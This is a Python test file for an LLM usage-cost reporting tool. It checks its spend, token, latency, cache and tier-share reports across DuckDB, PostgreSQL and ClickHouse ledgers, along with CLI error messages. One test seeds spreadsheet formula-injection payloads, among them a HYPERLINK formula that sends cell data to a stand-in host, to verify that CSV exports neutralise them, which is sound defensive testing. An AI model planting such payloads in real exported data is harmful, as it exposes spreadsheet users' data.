"""Every report preset matches an independent Python computation over the same events (DuckDB and PostgreSQL)."""

from __future__ import annotations

import json
import re
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import numpy as np
import pytest
from typer.testing import CliRunner

from helpers.seeded_ledgers import MODELS, NOW, _events
from tokenomy.analytics.reports import REPORTS, run_report
from tokenomy.cli import app
from tokenomy.errors import TokenomyError
from tokenomy.ledger.events import UsageEvent
from tokenomy.ledger.store import open_store


def _family(model: str) -> str:
    """Independent family rule: first known family name found in the id."""
    for family, pattern in [
        ("claude", "claude"),
        ("nova", "nova"),
        ("llama", "llama"),
        ("mistral", "mistral"),
        ("gpt", "gpt"),
        ("local", "local"),
    ]:
        if re.search(pattern, model):
            return family
    return "other"


def _floor(ts: datetime, unit: str) -> datetime:
    ts = ts.astimezone(UTC)
    if unit == "hour":
        return ts.replace(minute=0, second=0, microsecond=0)
    day = ts.replace(hour=0, minute=0, second=0, microsecond=0)
    if unit == "week":
        return day - timedelta(days=day.weekday())
    return day.replace(day=1) if unit == "month" else day


def _utc(value) -> datetime:
    return value.astimezone(UTC)


def _sum(events, key, value) -> dict:
    out: dict = defaultdict(int)
    for e in events:
        out[key(e)] += value(e)
    return dict(out)


def _rows(store, name: str, keys: tuple, value: str, **kw) -> dict:
    out = {}
    for r in run_report(store, name, now=NOW, **kw):
        out[tuple(_utc(r[k]) if isinstance(r[k], datetime) else r[k] for k in keys)] = r[value]
    return out


def _approx(got: dict, want: dict) -> None:
    assert set(got) == set(want)
    for key in want:
        assert float(got[key]) == pytest.approx(float(want[key])), key


def _check(store, events: list[UsageEvent]) -> None:
    last = lambda days: [e for e in events if e.ts >= NOW - timedelta(days=days)]  # noqa: E731
    # A preset with a row per hour, day or week starts its default window on a boundary of that unit, so its first
    # row is a whole period (NOW is 12:00: "the last 14 days" made the first day a half day).
    since = lambda days, unit: [e for e in events if e.ts >= _floor(NOW - timedelta(days=days), unit)]  # noqa: E731
    cost = lambda e: e.cost_usd  # noqa: E731
    tokens = lambda e: e.input_tokens + e.output_tokens + e.cache_read_tokens + e.cache_write_tokens  # noqa: E731
    all_in = lambda e: e.input_tokens + e.cache_read_tokens + e.cache_write_tokens  # noqa: E731

    assert _rows(store, "spend", ("model",), "cost_usd") == _sum(events, lambda e: (e.model,), cost)
    assert _rows(store, "monthly-spend", ("month", "provider"), "cost_usd") == _sum(
        events, lambda e: (_floor(e.ts, "month"), e.provider), cost
    )
    assert _rows(store, "family-daily", ("day", "family"), "cost_usd") == _sum(
        since(14, "day"), lambda e: (_floor(e.ts, "day"), _family(e.model)), cost
    )
    assert _rows(store, "spend", ("family",), "cost_usd", by="family") == _sum(
        events, lambda e: (_family(e.model),), cost
    )
    for column in ("input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens"):
        assert _rows(store, "tokens", ("model",), column) == _sum(
            last(30), lambda e: (e.model,), lambda e, c=column: getattr(e, c)
        )
    assert _rows(store, "hourly-tokens", ("hour", "provider"), "tokens") == _sum(
        since(2, "hour"), lambda e: (_floor(e.ts, "hour"), e.provider), tokens
    )

    read = _sum(events, lambda e: (e.model,), lambda e: e.cache_read_tokens)
    total = _sum(events, lambda e: (e.model,), all_in)
    _approx(_rows(store, "cache-hit-rate", ("model",), "cache_hit_rate"), {k: read[k] / total[k] for k in total})
    week_read = _sum(since(56, "week"), lambda e: (_floor(e.ts, "week"), e.model), lambda e: e.cache_read_tokens)
    week_total = _sum(since(56, "week"), lambda e: (_floor(e.ts, "week"), e.model), all_in)
    _approx(
        _rows(store, "cache-trend", ("week", "model"), "cache_hit_rate"),
        {k: week_read[k] / week_total[k] for k in week_total},
    )

    from tokenomy.ledger.latency_rollup import RELATIVE_ERROR

    for q, column in ((50, "p50_ms"), (95, "p95_ms")):
        # Over answered calls only: a throttled or failed attempt is no answer (as `ledger stats` counts them).
        want = {
            (m,): np.percentile([e.latency_ms for e in events if e.model == m and e.outcome == "ok"], q)
            for (m,) in total
        }
        _approx(_rows(store, "latency", ("model",), column, exact=True), want)
        approx = _rows(store, "latency", ("model",), column)  # default: from the histograms, within the bound
        assert set(approx) == set(want)
        assert all(abs(approx[k] - want[k]) <= RELATIVE_ERROR * want[k] + 1e-9 for k in want), (approx, want)

    calls = _sum(events, lambda e: (e.model,), lambda e: 1)
    throttled = _sum(events, lambda e: (e.model,), lambda e: e.outcome == "throttled")
    failed = _sum(events, lambda e: (e.model,), lambda e: e.outcome in ("client_error", "server_error", "timeout"))
    _approx(_rows(store, "errors", ("model",), "throttle_rate"), {k: throttled[k] / calls[k] for k in calls})
    _approx(_rows(store, "errors", ("model",), "error_rate"), {k: failed[k] / calls[k] for k in calls})

    assert _rows(store, "cost-per-task", ("task",), "cost_usd") == _sum(events, lambda e: (e.task or "(none)",), cost)
    task_calls = _sum(events, lambda e: (e.task or "(none)",), lambda e: 1)
    per_call = _rows(store, "cost-per-task", ("task",), "cost_per_call_usd")
    assert all(isinstance(v, Decimal) for v in per_call.values())  # money, not a float printed as 5.3e-05
    want_cost = _sum(events, lambda e: (e.task or "(none)",), cost)
    want = {k: round(want_cost[k] / task_calls[k], 9) for k in want_cost}
    assert {k: round(v, 9) for k, v in per_call.items()} == want
    tag_cost: dict = defaultdict(Decimal)
    for e in events:
        for key, value in e.tags.items():
            tag_cost[(key, value)] += e.cost_usd
    assert _rows(store, "cost-per-tag", ("tag_key", "tag_value"), "cost_usd") == dict(tag_cost)

    tiers = _sum(events, lambda e: (e.tier,), lambda e: e.outcome == "ok")  # answered calls, as route drift counts
    expected = {"weak": 0.7, "strong": 0.3, "medium": 0.0}
    shares = {r["tier"]: r for r in run_report(store, "tier-share", expected=expected)}
    assert set(shares) == {"weak", "strong", "medium"}
    for tier, want in expected.items():
        share = tiers.get((tier,), 0) / sum(e.outcome == "ok" for e in events)
        assert shares[tier]["share"] == pytest.approx(share)
        assert shares[tier]["delta"] == pytest.approx(share - want)

    batch = _sum(events, lambda e: (e.model,), lambda e: e.mode == "batch")
    _approx(_rows(store, "batch-share", ("model",), "batch_call_share"), {k: batch[k] / calls[k] for k in calls})
    assert _rows(store, "batch-share", ("model",), "batch_cost_usd") == _sum(
        events, lambda e: (e.model,), lambda e: e.cost_usd if e.mode == "batch" else Decimal(0)
    )


def test_reports_duckdb(ledger_path) -> None:
    store = open_store(ledger_path)
    store.write(_events())
    _check(store, store.events())


def test_reports_postgres(fresh_postgres_url) -> None:
    store = open_store(fresh_postgres_url)
    store.write(_events())
    _check(store, store.events())


def test_since_until_override_default_window(ledger_path) -> None:
    store = open_store(ledger_path)
    events = _events()
    store.write(events)
    since, until = NOW - timedelta(days=40), NOW - timedelta(days=10)
    rows = run_report(store, "tokens", since=since, until=until)
    want = _sum([e for e in events if since <= e.ts < until], lambda e: e.model, lambda e: e.output_tokens)
    assert {r["model"]: r["output_tokens"] for r in rows} == want
    # Only --until: the 30-day default window ends there.
    rows = run_report(store, "tokens", until=until)
    want = _sum(
        [e for e in events if until - timedelta(days=30) <= e.ts < until], lambda e: e.model, lambda e: e.output_tokens
    )
    assert {r["model"]: r["output_tokens"] for r in rows} == want


def _json_amounts(sums: dict) -> dict:
    """What --json prints for money: every amount at one scale, 6 places (not each sum with its own digits)."""
    return {key: f"{value.quantize(Decimal('1e-6'))}" for key, value in sums.items()}


def test_report_cli_interface(ledger_path, tmp_path) -> None:
    store = open_store(ledger_path)
    events = _events()
    store.write(events)
    runner = CliRunner()
    base = ["--json", "--ledger", str(ledger_path)]
    spend = json.loads(runner.invoke(app, ["report", "spend", "--by", "model", *base]).output)
    want = _json_amounts(_sum(events, lambda e: e.model, lambda e: e.cost_usd))
    assert {r["model"]: r["cost_usd"] for r in spend} == want
    hits = json.loads(runner.invoke(app, ["report", "cache-hit-rate", "--by", "model", *base]).output)
    assert all(0 <= r["cache_hit_rate"] <= 1 for r in hits) and len(hits) == len(MODELS)
    latency = json.loads(runner.invoke(app, ["report", "latency", "--by", "model", *base]).output)
    assert all(r["p50_ms"] <= r["p95_ms"] for r in latency) and len(latency) == len(MODELS)
    exact = json.loads(runner.invoke(app, ["report", "latency", "--by", "model", "--exact", *base]).output)
    answered = [e for e in events if e.outcome == "ok"]  # latency is over answered calls only
    want = {m: np.percentile([e.latency_ms for e in answered if e.model == m], 50) for _, m in MODELS}
    assert {r["model"]: r["p50_ms"] for r in exact} == pytest.approx(want)
    assert {r["model"]: r["p50_ms"] for r in latency} != {r["model"]: r["p50_ms"] for r in exact}  # two methods
    assert {r["model"]: r["p50_ms"] for r in latency} == pytest.approx(want, rel=0.0099)
    shown = runner.invoke(app, ["report", "latency", "--ledger", str(ledger_path)])
    assert shown.exit_code == 0 and "within 0.99% of the exact value" in shown.output, shown.output
    assert "within" not in runner.invoke(app, ["report", "latency", "--exact", "--ledger", str(ledger_path)]).output
    misplaced = runner.invoke(app, ["report", "spend", "--exact", *base])
    # The CLI refuses it before the library does, in the words it uses for every option of another preset
    # (reconcile and forecast never reached run_report's own check, so `--exact` was dropped there).
    assert misplaced.exit_code != 0 and "--exact is read by `report latency` only" in str(misplaced.exception)
    for name in REPORTS:  # every preset runs from the CLI over an explicit window
        result = runner.invoke(app, ["report", name, "--since", "2026-09-01", "--until", "2026-11-02", *base])
        assert result.exit_code == 0, (name, result.output)
        assert json.loads(result.output), name
    cfg = tmp_path / "tokenomy.yaml"
    cfg.write_text("routing:\n  expected_tier_share: {weak: 0.7, strong: 0.3}\n")
    tiers = json.loads(runner.invoke(app, ["report", "tier-share", "--config", str(cfg), *base]).output)
    assert {r["tier"]: r["expected_share"] for r in tiers} == {"weak": 0.7, "strong": 0.3}
    fixed = runner.invoke(app, ["report", "family-daily", "--by", "model", *base])
    assert fixed.exit_code != 0 and "drop --by model" in str(fixed.exception)
    bad = runner.invoke(app, ["report", "tier-share", "--expected", "weak:0.7", *base])
    assert bad.exit_code != 0 and "tier=share" in str(bad.exception)
    for wrong in ("weak=1.5", "weak=-0.2", "weak=nan", "=0.5", "weak=0.7,strong=0.6"):  # all used to be accepted
        bad = runner.invoke(app, ["report", "tier-share", "--expected", wrong, *base])
        assert bad.exit_code != 0 and "--expected" in str(bad.exception), wrong
    human = runner.invoke(
        app, ["report", "tier-share", "--expected", "weak=0.7,strong=0.3", "--ledger", str(ledger_path)]
    )
    assert re.search(r"[+-]\d+\.\d%", human.output), human.output  # delta in points, not a bare 0.0
    both = runner.invoke(app, ["report", "spend", "--csv", *base])
    assert both.exit_code != 0 and "not both" in str(both.exception)
    # A mistyped --ledger used to create an empty ledger there and print an empty report ("nothing spent").
    typo = tmp_path / "ledgr.duckdb"
    for args in (["report", "spend"], ["alerts", "check"], ["export", "focus", "-o", str(tmp_path / "f.csv")]):
        missing = runner.invoke(app, [*args, "--ledger", str(typo)])
        assert missing.exit_code != 0 and f"no ledger at {typo}" in str(missing.exception), args
    assert not typo.exists()
    # A directory, a file that is not a ledger, a database that is down: tracebacks before (duckdb/psycopg errors).
    not_a_ledger = tmp_path / "notes.txt"
    not_a_ledger.write_text("hello\n")
    for target in (str(tmp_path), str(not_a_ledger), "postgresql://u:hunter2@127.0.0.1:1/x"):
        broken = runner.invoke(app, ["report", "spend", "--ledger", target])
        assert broken.exit_code != 0 and isinstance(broken.exception, TokenomyError), target
        assert str(broken.exception).startswith("ledger "), target
        assert "hunter2" not in str(broken.exception)
    helped = CliRunner().invoke(app, ["report", "--help"]).output  # Rich used to eat "[default: ...]" as markup
    helped = " ".join(helped.replace("│", " ").split())  # the same words however Rich wraps the option column
    assert "[default: the preset's own]" in helped and "routing.expected_tier_share in config]" in helped
    csv_forecast = runner.invoke(app, ["report", "forecast", "--csv", "--ledger", str(ledger_path)])
    assert csv_forecast.exit_code != 0 and "--json instead of --csv" in str(csv_forecast.exception)
    # --since after --until used to return an empty report as if nothing had been spent.
    swapped = runner.invoke(app, ["report", "spend", "--since", "2026-11-02", "--until", "2026-09-01", *base])
    assert swapped.exit_code != 0 and "is not before --until" in str(swapped.exception)
    page = tmp_path / "swapped.html"
    swapped = runner.invoke(
        app,
        ["report", "--html", str(page), "--since", "2026-11-02", "--until", "2026-09-01", "--ledger", str(ledger_path)],
    )
    assert swapped.exit_code != 0 and "is not before --until" in str(swapped.exception) and not page.exists()
    # --since at year 1 used to overflow the previous period's start: a traceback instead of a message.
    ancient = runner.invoke(app, ["report", "--html", str(page), "--since", "0001-01-01", "--ledger", str(ledger_path)])
    said = " ".join(ancient.output.replace("│", " ").split())  # the same words however Rich wraps its box
    assert ancient.exit_code == 2 and "0001-01-01 is out of range; use a time from 1900-01-01" in said
    assert not page.exists()
    # --html used to ignore a report NAME silently and print "wrote ..." under --json.
    named = runner.invoke(app, ["report", "spend", "--html", str(page), "--ledger", str(ledger_path)])
    assert named.exit_code != 0 and "drop spend" in str(named.exception) and not page.exists()
    written = runner.invoke(app, ["report", "--html", str(page), *base])
    assert written.exit_code == 0 and json.loads(written.output) == {"html": str(page)} and page.exists()
    empty = runner.invoke(
        app, ["report", "spend", "--since", "2020-01-01", "--until", "2020-02-01", "--ledger", str(ledger_path)]
    )
    assert empty.exit_code == 0 and "no usage in the ledger from 2020-01-01" in empty.output


def test_reports_clickhouse(tmp_path) -> None:
    """The same presets on an embedded ClickHouse ledger (chDB: the ClickHouse engine in the test process)."""
    store = open_store(f"chdb:{tmp_path / 'ledger.chdb'}")
    assert store.dialect == "clickhouse"
    events = _events()
    store.write(events)
    store.write(events[:50])  # ClickHouse has no unique key: the store itself skips ids already written
    assert store.count() == len(events)
    _check(store, store.events())
    runner = CliRunner()
    for name in REPORTS:  # the CLI opens the same ledger by its chdb: URL
        result = runner.invoke(
            app, ["report", name, "--json", "--since", "2026-09-01", "--until", "2026-11-02", "--ledger", store.url]
        )
        assert result.exit_code == 0, (name, result.output)
        assert json.loads(result.output), name
    spend = json.loads(runner.invoke(app, ["report", "spend", "--json", "--ledger", store.url]).output)
    want = _json_amounts(_sum(events, lambda e: e.model, lambda e: e.cost_usd))
    assert {r["model"]: r["cost_usd"] for r in spend} == want
    missing = runner.invoke(app, ["report", "spend", "--ledger", f"chdb:{tmp_path / 'nothing-here'}"])
    assert missing.exit_code != 0 and "no ledger at" in str(missing.exception)


def test_an_unknown_report_lists_every_preset_help_lists(ledger_path) -> None:
    import re

    open_store(ledger_path)
    runner = CliRunner()
    unknown = runner.invoke(app, ["report", "nosuch", "--ledger", str(ledger_path)])
    available = str(unknown.exception).split("available: ")[1].split(", ")
    shown = runner.invoke(app, ["report", "--help"], env={"COLUMNS": "400"}).output
    helped = re.search(r"Preset: (.*?)\.", " ".join(shown.replace("│", " ").split())).group(1)
    named = re.findall(r"[a-z][a-z-]+(?= \(|,|$)", helped.replace(", or ", ", "))
    assert unknown.exit_code != 0 and "forecast" in available and "reconcile" in available  # were missing
    assert set(named) == set(available), (named, available)


def test_tier_share_compares_the_expected_split_with_routed_calls_only(tmp_path) -> None:
    """Calls no router placed (no tier) are most of a ledger; the expected shares split the routed ones, as
    `route drift` and the routing_drift alert read them, so the delta is taken among routed calls."""
    ts = datetime(2026, 11, 2, 12, tzinfo=UTC)
    events = [UsageEvent(ts=ts, provider="local", model="local", task="chat") for _ in range(6)]
    events += [
        UsageEvent(ts=ts, provider="local", model="local", route="support", tier=tier)
        for tier in ("weak", "weak", "weak", "strong")
    ]
    store = open_store(tmp_path / "ledger.duckdb")
    store.write(events)
    rows = {r["tier"]: r for r in run_report(store, "tier-share", expected={"weak": 0.75, "strong": 0.25})}
    assert rows["(none)"]["share"] == pytest.approx(0.6) and rows["(none)"]["delta"] is None
    assert rows["weak"]["share"] == pytest.approx(0.3)  # of all calls
    assert rows["weak"]["routed_share"] == pytest.approx(0.75) and rows["weak"]["delta"] == pytest.approx(0)
    assert rows["strong"]["routed_share"] == pytest.approx(0.25) and rows["strong"]["delta"] == pytest.approx(0)


def test_a_group_without_a_value_reads_none_not_a_blank(tmp_path) -> None:
    # `report spend --by task` showed calls recorded without a task on a row with an empty label.
    ledger = tmp_path / "ledger.duckdb"
    day = datetime(2026, 11, 2, 10, tzinfo=UTC)
    open_store(ledger).write(
        [
            UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task="summarise", cost_usd=Decimal("0.002")),
            UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", cost_usd=Decimal("0.001")),
        ]
    )
    result = CliRunner().invoke(app, ["report", "spend", "--by", "task", "--ledger", str(ledger)])
    assert result.exit_code == 0, result.output
    lines = [line for line in result.output.splitlines() if "$0.001000" in line]
    assert len(lines) == 1 and "(none)" in lines[0], result.output
    as_json = CliRunner().invoke(app, ["report", "spend", "--by", "task", "--ledger", str(ledger), "--json"])
    assert {row["task"] for row in json.loads(as_json.output)} == {"summarise", None}  # JSON keeps the null


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path) -> None:
    # Tasks and tags come from callers (the gateway's x-tokenomy-task header): a report's CSV opened in a spreadsheet
    # ran `=HYPERLINK(...)` as a formula. Amounts, negative numbers included, stay numbers.
    ledger = tmp_path / "ledger.duckdb"
    day = datetime(2026, 11, 2, 10, tzinfo=UTC)
    tasks = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-0.5", "summarise"]
    open_store(ledger).write(
        [
            UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task=task, cost_usd=Decimal("0.001"))
            for task in tasks
        ]
    )
    result = CliRunner().invoke(app, ["report", "spend", "--by", "task", "--csv", "--ledger", str(ledger)])
    assert result.exit_code == 0, result.output
    cells = {line.split(",")[0].strip('"') for line in result.output.splitlines()[1:]}
    assert {"'=HYPERLINK(", "'@SUM(A1)", "'+1+2", "-0.5", "summarise"} <= {c.split('""')[0] for c in cells}
    assert "0.001000" in result.output


def test_a_default_window_starts_on_a_whole_period_of_the_rows(ledger_path) -> None:
    # Asked at 12:30, "the last 14 days" of family-daily began at 12:30 fourteen days ago: that day's row held only
    # its afternoon ($1 of its $3 here) and read as a drop in spend. Each preset's first row is now a whole period.
    now = datetime(2026, 11, 18, 12, 30, tzinfo=UTC)  # a Wednesday
    first_day = datetime(2026, 11, 4, tzinfo=UTC)
    first_week = datetime(2026, 9, 21, tzinfo=UTC)  # the Monday of now - 56 days (Wednesday 2026-09-23)
    events = [
        UsageEvent(
            ts=ts,
            provider="bedrock",
            model="anthropic.claude-x",
            input_tokens=10,
            cache_read_tokens=c,
            cost_usd=Decimal(cost),
        )
        for ts, cost, c in (
            (first_day + timedelta(hours=6), "2", 0),
            (first_day + timedelta(hours=18), "1", 0),
            (now - timedelta(days=2, minutes=20), "5", 0),
            (first_week, "0", 30),
        )
    ]
    store = open_store(ledger_path)
    store.write(events)
    daily = {r["day"].astimezone(UTC): r["cost_usd"] for r in run_report(store, "family-daily", now=now)}
    assert daily[first_day] == Decimal(3)
    hourly = run_report(store, "hourly-tokens", now=now)
    assert [r["tokens"] for r in hourly if r["hour"].astimezone(UTC) == now - timedelta(days=2, minutes=30)] == [10]
    weekly = {r["week"].astimezone(UTC): r["cache_hit_rate"] for r in run_report(store, "cache-trend", now=now)}
    assert weekly[first_week] == pytest.approx(30 / 40)


def test_an_empty_default_window_names_the_window(tmp_path) -> None:
    # "report hourly-tokens: no usage in the ledger (the preset may use a default window)" on a ledger full of
    # older calls: which window, and that the calls are there, was left to guess.
    ledger = tmp_path / "ledger.duckdb"
    old = datetime.now(UTC) - timedelta(days=30)
    open_store(ledger).write([UsageEvent(ts=old, provider="bedrock", model="m", input_tokens=5)])
    result = CliRunner().invoke(app, ["report", "hourly-tokens", "--ledger", str(ledger)], env={"COLUMNS": "300"})
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "may use a default window" not in said
    assert "hourly-tokens: no usage in its default window, the last 2 days; give --since to look further" in said


@pytest.mark.parametrize("url_fixture", ["ledger_path", "fresh_postgres_url"])
def test_a_providers_metered_and_billed_spend_is_one_provider(request, url_fixture) -> None:
    # Bedrock calls record OpenTelemetry's `aws.bedrock`, its bill `bedrock`: October's bill and November's calls
    # read as two providers, Bedrock's spend dropping to nothing in November beside a new one.
    from dataclasses import replace

    from tokenomy.analytics.console_data import breakdown
    from tokenomy.analytics.dashboard_data import Filters, filter_options, totals
    from tokenomy.analytics.dashboard_providers import providers

    store = open_store(request.getfixturevalue(url_fixture))
    store.write(
        [
            UsageEvent(
                ts=datetime(2026, 10, 5, tzinfo=UTC),
                provider="bedrock",
                model="anthropic.claude-3-haiku",
                cost_usd=Decimal("4"),
                priced_by="billed",
            ),
            UsageEvent(
                ts=datetime(2026, 11, 5, 9, tzinfo=UTC),
                provider="aws.bedrock",
                model="anthropic.claude-3-haiku",
                input_tokens=100,
                cost_usd=Decimal("3"),
            ),
        ]
    )
    monthly = run_report(store, "monthly-spend", since=datetime(2026, 10, 1, tzinfo=UTC))
    assert [(r["provider"], r["cost_usd"]) for r in monthly] == [("bedrock", 4), ("bedrock", 3)]
    spend = run_report(store, "spend", by="provider", since=datetime(2026, 10, 1, tzinfo=UTC))
    assert [(r["provider"], r["cost_usd"], r["calls"]) for r in spend] == [("bedrock", 7, 1)]  # the bill is no call
    autumn = Filters(since=datetime(2026, 10, 1, tzinfo=UTC), until=datetime(2026, 12, 1, tzinfo=UTC))
    assert [(r["key"], Decimal(r["cost_usd"])) for r in breakdown(store, autumn)["groups"]["provider"]] == [
        ("bedrock", 7)
    ]
    view = providers(store, autumn)
    assert [(r["month"], r["provider"]) for r in view["monthly"]] == [("2026-10", "bedrock"), ("2026-11", "bedrock")]
    assert filter_options(store)["providers"] == ["bedrock"]
    for name in ("bedrock", "aws.bedrock"):  # the menu's name, or the one a metered row carries
        assert totals(store, replace(autumn, provider=name))["cost_usd"] == "7.000000", name


@pytest.mark.parametrize("url_fixture", ["ledger_path", "fresh_postgres_url", "clickhouse"])
def test_calls_are_metered_calls_not_a_bills_rows(request, tmp_path, url_fixture) -> None:
    # An imported bill's row (a provider-day's usage) counted as one call: report spend said 3 calls for 2, and
    # cost-per-task divided by 3 ($3.00 a call where the two calls cost $0.50). Its cost still counts in spend.
    from tokenomy.analytics.console_data import breakdown
    from tokenomy.analytics.dashboard_data import Filters, spend_by_day, totals

    url = f"chdb:{tmp_path / 'l.chdb'}" if url_fixture == "clickhouse" else request.getfixturevalue(url_fixture)
    store = open_store(url)
    day = datetime(2026, 11, 5, tzinfo=UTC)
    store.write(
        [
            UsageEvent(
                ts=day + timedelta(hours=9),
                provider="openai",
                model="m",
                task="qa",
                input_tokens=10,
                cost_usd=Decimal("0.5"),
                tags={"team": "a"},
            ),
            UsageEvent(
                ts=day + timedelta(hours=10, minutes=30),
                provider="openai",
                model="m",
                task="qa",
                input_tokens=10,
                cost_usd=Decimal("0.5"),
                tags={"team": "a"},
            ),
            UsageEvent(
                ts=day - timedelta(days=1),
                provider="openai",
                model="m",
                task="qa",
                input_tokens=9000,
                cost_usd=Decimal("8"),
                priced_by="billed",
                tags={"team": "a"},
            ),  # a day with no metered call
        ]
    )
    since, until = day - timedelta(days=2), day + timedelta(days=2)
    for edge in (timedelta(0), timedelta(minutes=17)):  # whole hours (rollups) and partial hours (raw rows)
        spend = run_report(store, "spend", since=since + edge, until=until)
        assert [(r["cost_usd"], r["calls"]) for r in spend] == [(9, 2)], spend
        task = run_report(store, "cost-per-task", since=since + edge, until=until)
        assert [(r["calls"], r["cost_usd"], r["cost_per_call_usd"]) for r in task] == [(2, 9, Decimal("4.5"))], task
        tag = run_report(store, "cost-per-tag", since=since + edge, until=until)
        assert [(r["calls"], r["cost_usd"]) for r in tag] == [(2, 9)], tag
        for exact in (False, True):  # a bill's row has no latency and is no call: the latency report counts 2
            latency = run_report(store, "latency", since=since + edge, until=until, exact=exact)
            assert [(r["model"], r["calls"]) for r in latency] == [("m", 2)], (exact, latency)
    f = Filters(since=since, until=until)
    assert [(r["key"], r["calls"]) for r in breakdown(store, f)["groups"]["model"]] == [("m", 2)]
    assert totals(store, f)["calls"] == 2 and totals(store, f)["cost_usd"] == "9.000000"
    assert sorted((r["day"], r["calls"]) for r in spend_by_day(store, f)) == [("2026-11-04", 0), ("2026-11-05", 2)]
    only_bill = run_report(store, "cost-per-task", since=since, until=day)  # a group of a bill only: no calls
    assert [(r["calls"], r["cost_per_call_usd"]) for r in only_bill] == [(0, None)], only_bill


@pytest.mark.parametrize("url_fixture", ["ledger_path", "fresh_postgres_url", "clickhouse"])
def test_cost_per_call_is_exact_to_the_last_of_twelve_places(request, tmp_path, url_fixture) -> None:
    # DuckDB divided the DECIMAL sum by the count as a DOUBLE: 3 calls of $10000.000000000001 cost ...002 a call,
    # 7 of $99999.999999999999 cost 100000.000000000000.
    url = f"chdb:{tmp_path / 'l.chdb'}" if url_fixture == "clickhouse" else request.getfixturevalue(url_fixture)
    store = open_store(url)
    day = datetime(2026, 11, 5, 9, tzinfo=UTC)
    costs = {"a": ["10000.000000000001"] * 3, "b": ["99999.999999999999"] * 7, "c": ["-0.000000000005", "0"]}
    store.write(
        [
            UsageEvent(ts=day, provider="openai", model="m", task=task, cost_usd=Decimal(cost), tags={"t": task})
            for task, each in costs.items()
            for cost in each
        ]
    )
    want = {"a": Decimal("10000.000000000001"), "b": Decimal("99999.999999999999")}
    for name, key in (("cost-per-task", "task"), ("cost-per-tag", "tag_value")):
        got = {r[key]: r["cost_per_call_usd"] for r in run_report(store, name)}
        assert {k: got[k] for k in want} == want, (name, got)
        assert got["c"] in (Decimal("-0.000000000003"), Decimal("-0.000000000002")), got  # a tie: either rounding
